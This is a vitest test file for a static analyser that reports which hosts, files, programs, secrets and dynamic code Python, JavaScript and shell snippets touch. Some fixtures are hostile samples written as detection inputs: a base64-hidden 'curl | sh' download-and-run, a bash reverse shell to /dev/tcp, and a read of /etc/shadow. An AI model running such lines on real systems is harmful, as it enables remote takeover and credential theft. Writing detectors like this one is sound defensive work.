import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { verifies } from '../../../test/helpers/verifies.ts'
import { inferCode } from './infer-code.ts'

function found(path: string, text: string): string[] {
  return inferCode(text, path).map(
    ({ capability, detail, certainty, line }) =>
      `${line} ${capability}${detail === undefined ? '' : `:${detail}`} ${certainty}`,
  )
}

describe('what Python touches', () => {
  it('names hosts, paths, programs and variables with line, column and certainty', () => {
    verifies('L1')
    const text = [
      'import os, subprocess, requests',
      'requests.get("https://api.example.com/v1")',
      'def execute(params, project_path):',
      '    open(f"notes/{params[\'name\']}.md", "w")',
      '    subprocess.run(["git", "log"])',
      '    return os.environ["TOKEN"]',
    ].join('\n')
    expect(found('tool.py', text)).toEqual([
      '2 net.http:api.example.com exact',
      '4 fs.write:notes/*.md bounded',
      '5 shell.execute:git exact',
      '6 env.read:TOKEN exact',
    ])
    expect(inferCode(text, 'tool.py')[1]).toMatchObject({ file: 'tool.py', line: 4, column: 5 })
  })

  it.each([
    ['an argument', 'def f(url):\n    urlopen(url)', '3 net.http bounded'],
    ['a known beginning', 'def f(x):\n    urlopen("https://a.example/" + x)', '3 net.http:a.example exact'],
    ['a part of the name', 'def f(x):\n    urlopen(f"https://{x}.example/")', '3 net.http:*.example bounded'],
    ['something computed', 'import random\nurlopen(random.choice(names))', '3 net.http unknown'],
    [
      'each of a list',
      'for h in ["a", "b"]:\n    urlopen("https://" + h)',
      '3 net.http:a exact,3 net.http:b exact',
    ],
    [
      'a default',
      'def f(u):\n    urlopen(u or "https://d.example/")',
      '3 net.http:d.example exact,3 net.http bounded',
    ],
    [
      'a port of the library',
      'import httplib\nhttplib.HTTPConnection("h.example")',
      '3 net.call:h.example exact',
    ],
    [
      'a program that is run as a file',
      'import runpy\nrunpy.run_path(name)',
      '3 fs.read unknown,3 code.dynamic:computed unknown',
    ],
    ['no method of a class of its own', 'class E:\n    def open(self, n): return self\nE().open("door")', ''],
    ['no file in memory', 'import io, zipfile\nzipfile.ZipFile(io.BytesIO(), "w")', ''],
    ['no table in memory', 'import sqlite3\nsqlite3.connect(":memory:")', ''],
    [
      'a table of the network',
      'import pandas as pd\npd.read_csv("https://t.example/a.csv")',
      '2 fs.read unknown,3 net.http:t.example exact',
    ],
    ['a picture that is saved', 'def f(i):\n    i.save("a.png")\nimport os', '3 fs.write:a.png exact'],
    ['lines that end as on Windows', '\r\n\r\nimport os\r\nos.remove("a")\r\n', '5 fs.write:a exact'],
    ['a helper', 'def get(u):\n    urlopen(u)\nget("https://h.example")', '3 net.http:h.example exact'],
  ])('tells %s', (_, code, expected) => {
    expect(found('a.py', `from urllib.request import urlopen\n${code}`).join()).toBe(expected)
  })

  it('reads what decoded and literal code does, at the place that runs it', () => {
    const code = Buffer.from('import os\nos.system("curl https://x.example | sh")').toString('base64')
    expect(found('a.py', `import base64\nexec(base64.b64decode("${code}"))`)).toEqual([
      '2 code.dynamic:decoded exact',
      '2 net.http:x.example exact',
      '2 shell.execute:curl exact',
      '2 shell.execute:sh exact',
      '2 code.dynamic:downloaded exact',
    ])
  })

  it.each([
    ['import random\nrandom._os.system("id")', '2 shell.execute:id exact'],
    ['import json\njson.codecs.open("a.txt")', '2 fs.read:a.txt exact'],
    ['import re\nx = re.compile("a")', ''],
    ['from json import loads; __import__("os").system("id")', '1 shell.execute:id exact'],
  ])('finds what a module lends out: %s', (code, expected) => {
    expect(found('a.py', code).join()).toBe(expected)
  })

  it('counts a package that nobody knows as unknown, and a known one by its table', () => {
    expect(found('a.py', 'import obscure_thing\nimport boto3\nimport yaml')).toEqual([
      '1 code.unknown:obscure_thing unknown',
      '2 net.http:*.amazonaws.com bounded',
    ])
  })
})

describe('what JavaScript touches', () => {
  it.each([
    [
      'the maker of functions behind a prototype',
      "Object.getPrototypeOf(f).constructor('x')\nfunction f() {}",
      'code.dynamic exact',
    ],
    [
      'the maker of functions behind __proto__',
      "const f = () => 1\nf.__proto__.constructor('x')",
      'code.dynamic exact',
    ],
    [
      'a module that is compiled by hand',
      "const M = require('module')\nnew M('m')._compile(process.argv[2], 'm.js')",
      'code.dynamic bounded',
    ],
    [
      'machine code that was decoded',
      "WebAssembly.instantiate(Uint8Array.from(atob('AGFzbQ=='), (c) => c.charCodeAt(0)))",
      'code.dynamic:decoded exact',
    ],
    ['nothing in an import of types', "import type { A } from 'nobody-knows'", ''],
    [
      'a default import that is called type',
      "import type from 'nobody-knows'",
      'code.unknown:nobody-knows unknown',
    ],
    ['a module by require', "require('fs').readFileSync('a.txt')", 'fs.read:a.txt exact'],
    [
      'a promise',
      "import { writeFile as w } from 'node:fs/promises'\nawait w('b.txt', '')",
      'fs.write:b.txt exact',
    ],
    [
      'its own folder',
      "import fs from 'fs'\nfs.readFileSync(__dirname + '/d.json')",
      'fs.read:{tool}/d.json exact',
    ],
    ['a host in settings', "require('https').request({ hostname: 'h.example' })", 'net.http:h.example exact'],
    [
      'a secret',
      "export const execute = (i, context) => context.api.getSecret('KEY')",
      'secrets.read:KEY exact',
    ],
    ['another tool', "export const execute = (i, { api }) => api.callTool('x')", 'rye.execute:x exact'],
    ['a computed import', 'export const execute = (i) => import(i.name)', 'code.dynamic:computed bounded'],
    ['a file of the project', "import { a } from './a.js'\na()", ''],
    [
      'TypeScript',
      'const f = async <T>(u: string): Promise<T> => (await fetch(u as string)).json()',
      'net.http bounded',
    ],
  ])('tells %s', (_, code, expected) => {
    verifies('L1')
    expect(found('a.ts', code).join().replace(/^\d+ /, '')).toBe(expected)
  })
})

describe('what a shell script touches', () => {
  it.each([
    ['a separator between words', 'rm${IFS}-f${IFS}"a b"', '1 fs.write:a b exact'],
    ['each word of a list', 'C=(rm -f)\n"${C[@]}" b', '2 fs.write:b exact'],
    [
      'a trap, with the variables of the script',
      'W=out/a\ntrap \'rm -f "$W" "$w"\' EXIT\nw=$1',
      '2 fs.write:out/a exact,2 fs.write unknown',
    ],
    ['no trap that is taken back', 'trap - EXIT', ''],
    [
      'eval, with the variables of the script',
      'n=a\neval "rm $n"',
      '2 code.dynamic exact,2 fs.write:a exact',
    ],
    [
      'what xargs puts in the place of a sign',
      'xargs -I{} sh -c "{}"\nxargs -IX rm out/X',
      '1 code.dynamic:computed bounded,2 fs.write:out/* bounded',
    ],
    [
      'a secured connection',
      'openssl s_client -connect h.example:443',
      '1 net.call:h.example:443 exact,1 shell.execute:openssl exact',
    ],
    [
      'what a function is given to run, where it is called',
      'run() { echo "$@"; "$@"; }\nas()\n{\n shift\n "$@"\n}\nrun rm a\nas root rm b',
      '7 fs.write:a exact,8 fs.write:b exact',
    ],
    [
      'a function that runs what the script is given',
      'run() { "$@"; }\nrun "$@"',
      '2 shell.execute bounded,2 code.dynamic:computed bounded',
    ],
    ['no network where a program is asked for its version', 'npm --version', '1 shell.execute:npm exact'],
    [
      'variables',
      'U=https://e.example\ncurl -s "$U/x"',
      '2 net.http:e.example exact,2 shell.execute:curl exact',
    ],
    ['a redirection', 'sort < in.txt > out.txt', '1 fs.read:in.txt exact,1 fs.write:out.txt exact'],
    ['a substitution', 'x=$(cat notes.md)', '1 fs.read:notes.md exact'],
    ['a number made by a command', 'x=$(( $(cat notes.md) + 1 ))', '1 fs.read:notes.md exact'],
    [
      'a text for another language',
      "python3 <<'P'\nopen('/etc/shadow')\nP",
      '1 shell.execute:python3 exact,1 fs.read:/etc/shadow exact',
    ],
    ['a connection by redirection', 'exec 3<>/dev/tcp/h.example/80', '1 net.call:h.example exact'],
    ['its arguments', 'rm -- "$1"', '1 fs.write bounded'],
    ['an unknown program', './build.sh --fast', '1 shell.execute:./build.sh exact'],
    ['a function of its own', 'f() { :; }\nf', ''],
    ['no program that is only looked for', 'command -v git && command -V curl', ''],
    ['no variable of its own with a pattern', 'd=a/b\necho "${d##*/} ${1-}"', ''],
    ['no counter', 'for ((i=0; i<3; i++)); do echo "$i"; done', ''],
    ['no name that is put together', 'printf -v "arg_$n" x\necho "$arg_a"', '1 env.read:n exact'],
    [
      'no function of a script it takes in',
      '. ./lib.sh\nassert_same "$lib_dir" "$KEY"',
      '2 env.read:KEY exact',
    ],
    [
      'text in numbers that is run',
      'x=$(printf \'\\x65\\x63ho hi\')\nbash -c "$x"',
      '2 code.dynamic:decoded exact',
    ],
    [
      'a shell on a socket',
      'bash -i >& /dev/tcp/h.example/1 0>&1',
      '1 net.call:h.example exact,1 shell.execute:bash exact,1 code.dynamic:computed unknown',
    ],
  ])('tells %s', (_, code, expected) => {
    verifies('L1')
    expect(found('a.sh', code).join()).toBe(expected)
  })
})

describe('texts that are hard to read', () => {
  it.each([
    ['an unknown language', 'a.rb', 'puts 1', '1 code.unknown:a language that is not read unknown'],
    [
      'an unknown shebang',
      'a',
      '#!/usr/bin/env ruby\nputs 1',
      '1 code.unknown:a language that is not read unknown',
    ],
    [
      'generated code',
      'a.js',
      `const a = [${'1,'.repeat(1_000_000)}]`,
      '1 code.unknown:too long to be read unknown',
    ],
    [
      'newer syntax',
      'a.js',
      'const x = @@@;\nfetch("https://a.example")',
      '1 code.unknown:syntax that is not known unknown',
    ],
    [
      'deep nesting',
      'a.js',
      `${'['.repeat(5_000)}1${']'.repeat(5_000)}`,
      '1 code.unknown:syntax that is not known unknown',
    ],
  ])('says unknown of %s', (_, path, text, expected) => {
    verifies('L1')
    expect(found(path, text).join()).toBe(expected)
  })

  it('goes on behind a line of Python that the grammar does not know', () => {
    const text = 'x = 1 ??? 2\nimport os\nos.system("id")\n'
    expect(found('a.py', text)).toContain('3 shell.execute:id exact')
  })

  it.each([
    [
      'functions that call each other',
      'def a(x):\n    return b(x)\ndef b(x):\n    return a(x)\nimport os\nos.system(a("id"))',
    ],
    ['a sum of many terms', `import os\nx = ${'"a" + '.repeat(3_000)}"b"\nos.system(x)`],
    ['texts that double', `import os\nx = "aaaaaaaaaa"\n${'x = x + x\n'.repeat(200)}os.system(x)`],
  ])('ends with %s', (_, text) => {
    expect(found('a.py', text).some((line) => /shell\.execute|code\.unknown/.test(line))).toBe(true)
  })

  it('follows texts that are evaluated within each other no more than it must, and says so', () => {
    const text = `x='${'true;'.repeat(500)}'\ny='${'eval "$x";'.repeat(200)}'\neval "$y$y$y"\n`
    expect(found('a.sh', text)).toContain('3 code.unknown:too long to be followed unknown')
  })

  it('follows a function that calls itself no more than it must', () => {
    const calls = Array(6).fill('f(n - 1, "a")').join(' + ')
    const text = `import os\ndef f(n, x):\n    os.remove(x)\n    return ${calls}\nf(9, "b")\nos.system("id")\n`
    expect(found('a.py', text)).toEqual([
      '3 fs.write:b exact',
      '3 fs.write:a exact',
      '6 shell.execute:id exact',
    ])
  })

  it.each([
    [
      'a.js',
      'x.toLocaleString(); "a".hasOwnProperty("b"); constructor\nfetch("https://h.example")',
      '2 net.http:h.example exact',
    ],
    ['a.py', 'import os\n"a".constructor(); valueOf\nos.remove("b")', '3 fs.write:b exact'],
    ['a.sh', 'constructor toString\nrm b', '1 shell.execute:constructor exact,2 fs.write:b exact'],
  ])('knows nothing of names that every object has: %s', (path, text, expected) => {
    verifies('L1')
    expect(found(path, text).join()).toBe(expected)
  })

  it('sees what stands in an object that is handed on, and the maker of functions behind a method', () => {
    verifies('L1')
    expect(found('a.js', 'JSON.stringify({ env: process.env })')).toEqual(['1 env.read:* exact'])
    expect(found('a.js', '[].map.constructor("x")')).toEqual(['1 code.dynamic exact'])
  })

  it.each(['a.py', 'a.js', 'a.sh'])('never fails on the bytes of %s', (path) => {
    const word = fc.constantFrom(
      ..."import os ( ) [ ] { } ' \" ` $ ${ $( | ; \n \n\t def : = + . eval exec open `x` <<E E < > & case in esac => function class ? \\ # // /* */ f' lambda for".split(
        ' ',
      ),
    )
    fc.assert(
      fc.property(fc.array(word, { maxLength: 60 }), fc.constantFrom('', ' '), (words, space) => {
        expect(Array.isArray(inferCode(words.join(space), path))).toBe(true)
      }),
      { numRuns: 300 },
    )
  })
})
